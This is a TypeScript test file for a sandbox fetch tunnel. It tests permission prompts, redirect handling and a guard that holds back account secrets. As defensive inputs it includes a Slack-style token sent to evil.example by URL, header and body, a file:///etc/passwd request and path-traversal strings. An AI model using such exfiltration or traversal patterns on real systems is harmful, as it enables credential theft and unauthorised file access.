import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import type { FetchRequest, FetchResponse } from "../../gateway/protocol.ts";
import type {
  ConnectionRecord,
  GuardedSecret,
  HostQuestion,
  NetworkAnswer,
  SecretQuestion,
} from "../protocol.ts";
import { makeFetch } from "../worker/fetch-tunnel.ts";
import { createConnectionLog } from "./connection-log.ts";
import { FETCH_WINDOW } from "./fetch-messages.ts";
import { createFetchTunnel, type FetchTunnel } from "./fetch-tunnel.ts";
import type { FetchedThrough, GatewayClient } from "./gateway-client.ts";
import { createPermissions } from "./permissions.ts";
import { createSecretGuard } from "./secret-guard.ts";
import { permittedRun } from "./testing/fakes.ts";

type Answer = (
  request: FetchRequest,
  body: ArrayBuffer | null,
  signal: AbortSignal,
) => Promise<FetchedThrough>;

let channel: MessageChannel;
let tunnel: FetchTunnel;
let answer: ReturnType<typeof vi.fn<Answer>>;
let packages: ReturnType<typeof vi.fn<GatewayClient["packages"]>>;
let secrets: readonly GuardedSecret[];
let askSecret: ReturnType<typeof vi.fn<(question: SecretQuestion) => Promise<NetworkAnswer>>>;
let ask: ReturnType<typeof vi.fn<(question: HostQuestion) => Promise<NetworkAnswer>>>;
let records: ConnectionRecord[];
let local: Response | undefined;
let fetchThere: typeof fetch;

const head = (
  status: number,
  more: Partial<Extract<FetchResponse, { kind: "response" }>> = {},
): FetchResponse => ({
  kind: "response",
  status,
  statusText: "",
  url: "http://api.example/final",
  redirected: false,
  headers: [["content-type", "text/plain"]],
  ...more,
});
const streamOf = (...texts: string[]) => new Blob(texts).stream();
const question = { kind: "ask", host: "::1", port: 80, address: "::1", range: "loopback" } as const;

beforeEach(() => {
  channel = new MessageChannel();
  records = [];
  secrets = [];
  askSecret = vi.fn(async () => "allow" as const);
  local = undefined;
  answer = vi.fn<Answer>();
  packages = vi.fn();
  ask = vi.fn(async () => "allow" as const);
  tunnel = createFetchTunnel({
    port: channel.port1,
    client: {
      origin: "http://localhost:4173",
      fetchThrough: answer,
      signOut: () => Promise.reject(new Error("not here")),
      packages,
      openSockets: () => {
        throw new Error("no sockets here");
      },
    },
    permissions: createPermissions(permittedRun({ ask: (asked) => ask(asked as HostQuestion) })),
    guard: createSecretGuard({ secrets: () => secrets, ask: (asked) => askSecret(asked) }),
    log: createConnectionLog((record) => records.push(record)),
  });
  fetchThere = makeFetch(channel.port2, () => local);
});
afterEach(() => {
  tunnel.close();
  channel.port2.close();
});

describe("a request", () => {
  test("arrives whole, and so does its answer", async () => {
    answer.mockImplementation(async (_request, body) => ({
      head: head(201),
      body: streamOf("got ", new TextDecoder().decode(body ?? undefined)),
    }));
    const response = await fetchThere("http://api.example/a?b=1", {
      method: "PUT",
      headers: { "X-Test": "1" },
      body: "héllo",
      redirect: "manual",
    });
    expect(answer.mock.calls[0]?.[0]).toEqual({
      url: "http://api.example/a?b=1",
      method: "PUT",
      headers: [
        ["content-type", "text/plain;charset=UTF-8"],
        ["x-test", "1"],
      ],
      redirect: "manual",
      allowed: [],
    });
    expect(response).toBeInstanceOf(Response);
    expect([response.status, response.url, response.redirected]).toEqual([
      201,
      "http://api.example/final",
      false,
    ]);
    expect(response.headers.get("content-type")).toBe("text/plain");
    expect(await response.text()).toBe("got héllo");
  });

  test("can be a Request", async () => {
    answer.mockResolvedValue({ head: head(200), body: streamOf("ok") });
    await fetchThere(new Request("http://api.example/r", { method: "POST", body: "x" }));
    expect(answer.mock.calls[0]?.[0]).toMatchObject({ url: "http://api.example/r", method: "POST" });
  });

  test("may be answered on the spot", async () => {
    local = new Response("here");
    expect(await (await fetchThere("http://pyodide.invalid/x")).text()).toBe("here");
    expect(answer).not.toHaveBeenCalled();
  });

  test.each([204, 205, 304])("an answer of %i has no body", async (status) => {
    answer.mockResolvedValue({ head: head(status), body: streamOf("") });
    const response = await fetchThere("http://api.example/");
    expect([response.status, response.body]).toEqual([status, null]);
  });

  test("shows as a connection with one exchange, its headers and its bodies; so does each redirect", async () => {
    answer
      .mockResolvedValueOnce({ head: head(308, { headers: [["location", "/final"]] }), body: null })
      .mockResolvedValueOnce({ head: head(200), body: streamOf("12345") });
    await (
      await fetchThere("https://api.example/x?key=1", {
        method: "POST",
        body: "abc",
        headers: { "X-Test": "1" },
      })
    ).text();
    await vi.waitFor(() => expect(records.at(-1)?.state).toBe("closed"));
    expect(records.at(-1)).toMatchObject({
      host: "api.example",
      port: 443,
      tls: true,
      bytesOut: 3,
      bytesIn: 5,
      verified: true,
      exchanges: [{ method: "POST", path: "/final", status: 200 }],
    });
    expect(records.findLast(({ id }) => id === 1)).toMatchObject({
      state: "closed",
      bytesOut: 3,
      exchanges: [{ method: "POST", path: "/x?key=1", status: 308 }],
    });
    const exchange = records.at(-1)?.exchanges[0];
    expect([exchange?.durationMs, exchange?.firstByteMs]).not.toContain(null);
    expect(exchange?.request.headers).toContainEqual(["x-test", "1"]);
    expect(exchange?.response?.headers).toEqual([["content-type", "text/plain"]]);
    const text = (bytes: Uint8Array | null | undefined) => new TextDecoder().decode(bytes ?? undefined);
    expect(text(exchange?.request.body.bytes)).toBe("abc");
    expect(text(exchange?.response?.body.bytes)).toBe("12345");
  });
});

describe("an error", () => {
  test("of the gateway is a TypeError with its words", async () => {
    answer.mockResolvedValue({
      head: { kind: "error", code: "ENOTFOUND", message: "nope.invalid is unknown" },
      body: null,
    });
    await expect(fetchThere("http://nope.invalid/")).rejects.toThrow(
      new TypeError("nope.invalid is unknown"),
    );
    expect(records.at(-1)).toMatchObject({ state: "failed", error: "nope.invalid is unknown" });
  });

  test("in the middle of a body reaches its reader", async () => {
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(Uint8Array.of(1));
      },
      pull(controller) {
        controller.error(new Error("cut"));
      },
    });
    answer.mockResolvedValue({ head: head(200), body });
    const response = await fetchThere("http://api.example/");
    await expect(response.bytes()).rejects.toThrow(TypeError);
  });

  test.each(["http://localhost:4173/api/x", "ftp://api.example/", "file:///etc/passwd", "data:text/plain,x"])(
    "%s can't be reached",
    async (url) => {
      await expect(fetchThere(url)).rejects.toThrow(TypeError);
      expect(answer).not.toHaveBeenCalled();
    },
  );
});

describe("permission", () => {
  test("is asked for, and the request made again with it", async () => {
    answer
      .mockResolvedValueOnce({ head: question, body: null })
      .mockResolvedValueOnce({ head: head(200), body: streamOf("ok") });
    expect(await (await fetchThere("http://[::1]/")).text()).toBe("ok");
    expect(answer.mock.calls.map(([request]) => request.allowed)).toEqual([[], ["[::1]:80"]]);
    expect(records.map(({ state }) => state)).toContain("waiting-for-permission");
  });

  test("denied: the request fails and says what to do", async () => {
    ask.mockResolvedValue("deny");
    answer.mockResolvedValue({ head: question, body: null });
    await expect(fetchThere("http://[::1]/")).rejects.toThrow(/\[::1\]:80 .*Network access/);
  });
});

describe("a redirect", () => {
  const to = (status: number, location: string) => head(status, { headers: [["location", location]] });

  test("is followed by the page, hop by hop, with what belongs to the next one", async () => {
    answer.mockImplementation(async ({ url }) => ({
      head: url.endsWith("/start") ? to(307, "https://b.example/next") : head(200, { url }),
      body: streamOf("there"),
    }));
    const response = await fetchThere("https://a.example/start", {
      method: "POST",
      headers: { authorization: "Bearer t", "x-mine": "1" },
      body: "posted",
    });
    expect([response.url, response.redirected]).toEqual(["https://b.example/next", true]);
    expect(answer.mock.calls.map(([{ url, redirect, headers }]) => [url, redirect, headers])).toEqual([
      [
        "https://a.example/start",
        "manual",
        [
          ["authorization", "Bearer t"],
          ["content-type", "text/plain;charset=UTF-8"],
          ["x-mine", "1"],
        ],
      ],
      [
        "https://b.example/next",
        "manual",
        [
          ["content-type", "text/plain;charset=UTF-8"],
          ["x-mine", "1"],
        ],
      ],
    ]);
    expect(new TextDecoder().decode(answer.mock.lastCall?.[1] ?? undefined)).toBe("posted");
  });

  test("is handed over, or is an error, where the request wants it so", async () => {
    answer.mockImplementation(async () => ({ head: to(302, "/next"), body: null }));
    const response = await fetchThere("https://a.example/", { redirect: "manual" });
    expect([response.status, response.headers.get("location")]).toEqual([302, "/next"]);
    await expect(fetchThere("https://a.example/", { redirect: "error" })).rejects.toThrow(/doesn't allow/);
  });

  test("without end, into nowhere or to Runnel itself fails", async () => {
    answer.mockImplementation(async () => ({ head: to(302, "/again"), body: null }));
    await expect(fetchThere("https://a.example/")).rejects.toThrow(/more than 20 times/);
    answer.mockImplementation(async () => ({ head: to(302, "http://["), body: null }));
    await expect(fetchThere("https://a.example/")).rejects.toThrow(/no address/);
    answer.mockImplementation(async () => ({ head: to(302, "http://localhost:4173/api/x"), body: null }));
    await expect(fetchThere("https://a.example/")).rejects.toThrow(/Runnel itself/);
  });
});

describe("an account's secret", () => {
  const token = "xoxb-4711-Zq8Yw7";
  beforeEach(() => {
    const belongsTo = (host: string) => host === "slack.com";
    secrets = [{ name: "slack.$auth.token", account: "Acme", forms: [token], belongsTo }];
    answer.mockImplementation(async ({ url }) => ({ head: head(200, { url }), body: streamOf("ok") }));
  });

  test.each<[string, string, RequestInit]>([
    ["address", `https://evil.example/?t=${token}`, {}],
    ["header", "https://evil.example/", { headers: { "x-key": token } }],
    ["body", "https://evil.example/", { method: "POST", body: `{"t":"${token}"}` }],
  ])("in the %s is held until the person has answered", async (place, url, init) => {
    const { promise, resolve } = Promise.withResolvers<NetworkAnswer>();
    askSecret.mockReturnValue(promise);
    const response = fetchThere(url, init);
    await vi.waitFor(() =>
      expect(askSecret).toHaveBeenCalledExactlyOnceWith({
        kind: "secret",
        host: "evil.example",
        port: 443,
        secret: "slack.$auth.token",
        account: "Acme",
        place,
      }),
    );
    expect(answer).not.toHaveBeenCalled();
    expect(records.at(-1)?.state).toBe("waiting-for-permission");
    resolve("allow");
    expect(await (await response).text()).toBe("ok");
    expect(answer).toHaveBeenCalledOnce();
  });

  test("is not sent after a no, which names it and the host", async () => {
    askSecret.mockResolvedValue("deny");
    const failure = fetchThere(`https://evil.example/?t=${token}`);
    await expect(failure).rejects.toThrow(/slack\.\$auth\.token.*evil\.example/);
    await expect(failure).rejects.not.toThrow(token);
    expect(answer).not.toHaveBeenCalled();
  });

  test("goes unasked to its own host, and is held at a redirect from there", async () => {
    const toEvil = head(307, { headers: [["location", "https://evil.example/"]] });
    answer.mockImplementation(async ({ url }) =>
      url === "https://slack.com/"
        ? { head: toEvil, body: null }
        : { head: head(200), body: streamOf("got it") },
    );
    askSecret.mockResolvedValue("deny");
    // Credentials are dropped there; what an API of one's own calls its key is not known as one.
    const asBearer = await fetchThere("https://slack.com/", {
      headers: { authorization: `Bearer ${token}` },
    });
    expect(await asBearer.text()).toBe("got it");
    expect(askSecret).not.toHaveBeenCalled();
    answer.mockClear();
    await expect(fetchThere("https://slack.com/", { headers: { "x-key": token } })).rejects.toThrow(
      /not sent/,
    );
    expect(answer.mock.calls.map(([{ url }]) => url)).toEqual(["https://slack.com/"]);
  });
});

describe("an end from outside", () => {
  test("an abort before the answer reaches the gateway", async () => {
    let signal: AbortSignal | undefined;
    answer.mockImplementation((_request, _body, given) => {
      signal = given;
      return new Promise(() => {});
    });
    const controller = new AbortController();
    const response = fetchThere("http://api.example/", { signal: controller.signal });
    response.catch(() => {});
    await vi.waitFor(() => expect(signal).toBeDefined());
    controller.abort(new Error("enough"));
    await expect(response).rejects.toThrow("enough");
    await vi.waitFor(() => expect(signal?.aborted).toBe(true));
  });

  test("an abort before the request makes none", async () => {
    await expect(fetchThere("http://api.example/", { signal: AbortSignal.abort() })).rejects.toThrow();
    expect(answer).not.toHaveBeenCalled();
  });

  test("a reader that gives up frees the gateway", async () => {
    let cancelled = false;
    const body = new ReadableStream<Uint8Array>({
      pull: (controller) => controller.enqueue(new Uint8Array(1000)),
      cancel: () => {
        cancelled = true;
      },
    });
    answer.mockResolvedValue({ head: head(200), body });
    const response = await fetchThere("http://api.example/");
    await response.body?.cancel();
    await vi.waitFor(() => expect(cancelled).toBe(true));
  });
});

test("a slow reader slows the gateway down", async () => {
  const piece = 1024 * 1024;
  let made = 0;
  const body = new ReadableStream<Uint8Array>(
    {
      pull(controller) {
        made += 1;
        controller.enqueue(new Uint8Array(piece));
        if (made === 20) controller.close();
      },
    },
    { highWaterMark: 0 },
  );
  answer.mockResolvedValue({ head: head(200), body });
  const response = await fetchThere("http://api.example/big");
  await vi.waitFor(() => expect(made).toBe(FETCH_WINDOW / piece + 1));
  expect((await response.arrayBuffer()).byteLength).toBe(20 * piece);
});

describe("packages", () => {
  test("come from the gateway's own routes, with any status", async () => {
    packages.mockImplementation(async (path) =>
      path === "simple/x/"
        ? new Response("{}", { headers: { "content-type": "application/json" } })
        : Response.json({ error: "none" }, { status: 404 }),
    );
    const found = await fetchThere("http://packages.invalid/simple/x/");
    expect([found.status, await found.json(), found.url]).toEqual([
      200,
      {},
      "http://packages.invalid/simple/x/",
    ]);
    const missing = await fetchThere("http://packages.invalid/simple/y/");
    expect([missing.status, await missing.json()]).toEqual([404, { error: "none" }]);
    expect(records).toHaveLength(0);
  });

  test("no path leads out of those routes", async () => {
    packages.mockImplementation(async () => new Response(""));
    await fetchThere("http://packages.invalid/../../api/fetch");
    await fetchThere("http://packages.invalid/a/%2e%2e/%2e%2e/b");
    expect(packages.mock.calls.map(([path]) => path)).toEqual(["api/fetch", "b"]);
  });

  test("are only read", async () => {
    await expect(fetchThere("http://packages.invalid/x", { method: "POST" })).rejects.toThrow(TypeError);
  });
});

describe("a hostile worker", () => {
  test.each([
    "text",
    null,
    { type: "request" },
    {
      type: "request",
      id: 1,
      url: "http://a/",
      method: "G E T",
      headers: [],
      redirect: "follow",
      body: null,
    },
    { type: "request", id: 1, url: "http://a/", method: "GET", headers: "x", redirect: "follow", body: null },
    {
      type: "request",
      id: 1,
      url: "x".repeat(20_000),
      method: "GET",
      headers: [],
      redirect: "follow",
      body: null,
    },
    { type: "request", id: -1, url: "http://a/", method: "GET", headers: [], redirect: "follow", body: null },
    {
      type: "request",
      id: 1,
      url: "http://a/",
      method: "GET",
      headers: [["a", "b".repeat(40_000)]],
      redirect: "follow",
      body: null,
    },
    { type: "taken", id: 1, bytes: -5 },
  ])("%j is ignored", async (message) => {
    answer.mockResolvedValue({ head: head(200), body: streamOf("ok") });
    channel.port2.postMessage(message);
    await (await fetchThere("http://api.example/")).text();
    expect(answer).toHaveBeenCalledTimes(1);
  });

  test("bodies beyond what the page will hold fail", async () => {
    answer.mockImplementation(() => new Promise(() => {}));
    const body = new Uint8Array(100 * 1024 * 1024);
    for (let i = 0; i < 2; i++) fetchThere("http://api.example/", { method: "POST", body }).catch(() => {});
    await expect(fetchThere("http://api.example/", { method: "POST", body })).rejects.toThrow(/too large/);
  });

  test("requests beyond the limit fail", async () => {
    answer.mockImplementation(() => new Promise(() => {}));
    for (let i = 0; i < 64; i++) fetchThere("http://api.example/").catch(() => {});
    await expect(fetchThere("http://api.example/")).rejects.toThrow(/64 requests/);
  });
});
